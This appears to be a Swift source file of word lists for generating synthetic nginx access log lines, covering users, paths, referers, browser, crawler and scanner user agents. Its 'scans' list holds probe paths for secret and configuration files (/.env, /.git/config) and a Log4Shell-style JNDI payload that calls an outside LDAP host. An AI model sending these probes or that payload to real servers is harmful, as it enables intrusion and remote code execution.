/// What made lines are put together from, as it stands in logs: escaped as nginx does.
enum AccessLogWords {
    static let digits = Array("0123456789abcdef")

    static let users = [
        "alice", "bob", "c.martin", "d-lopez", "eve@example.org", "f_khan", "marie.dupont", "\\xC3\\xA9lise",
    ]

    static let methods: [(value: String, weight: Int)] = [
        ("GET", 840), ("POST", 90), ("HEAD", 30), ("PUT", 15), ("DELETE", 10), ("OPTIONS", 10), ("PATCH", 5),
    ]

    static let versions: [(value: String, weight: Int)] = [("1.1", 50), ("2.0", 45), ("1.0", 5)]

    static let sections = [
        "/", "/index.html", "/catalogue", "/products", "/products/new", "/search", "/cart", "/checkout", "/account",
        "/account/orders", "/api/v1/items", "/api/v1/orders", "/api/v2/prices", "/blog/2026/11", "/static/css/site.css",
        "/static/js/app.min.js", "/images/logo.svg", "/favicon.ico", "/sitemap.xml", "/caf%C3%A9/menu",
        "/%D9%85%D8%B1%D8%AD%D8%A8%D8%A7",
    ]

    static let things = ["lamp", "chair", "kettle", "bicycle", "notebook", "garden-hose", "coffee-mill", "rain-coat"]

    static let searches = ["red+shoes", "caf%C3%A9", "usb-c", "50%25+off", "%22quoted%22", "late+train"]

    static let sessionNames = ["sid", "session", "PHPSESSID", "jsessionid"]

    static let referers = [
        "https://www.example.com/", "https://www.example.com/catalogue?page=2", "https://search.example.net/?q=kettle",
        "https://www.example.org/reviews/kettles.html", "android-app://com.example.shop/", "https://m.example.com/cart",
        "https://news.example.net/item?id=41999151", "",
    ]

    static let browsers = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
        "ShopApp/4.2 (Android 14; fr_FR) okhttp/4.12.0", "curl/8.5.0", "-",
        "Mozilla/5.0 (compatible; \\x22quoted\\x22 agent; \\xE9)",
    ]

    static let crawlers = [
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "Python-urllib/3.11",
        "Prometheus/2.53.0",
    ]

    static let scanners = ["-", "Mozilla/5.0 zgrab/0.x", "masscan/1.3", "Go-http-client/1.1", "python-requests/2.32.3"]

    static let scans = [
        "/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/index.php", "/cgi-bin/luci/;stok=/locale",
        "/boaform/admin/formLogin", "/actuator/health", "/?x=${jndi:ldap://198.51.100.9/a}",
    ]
}
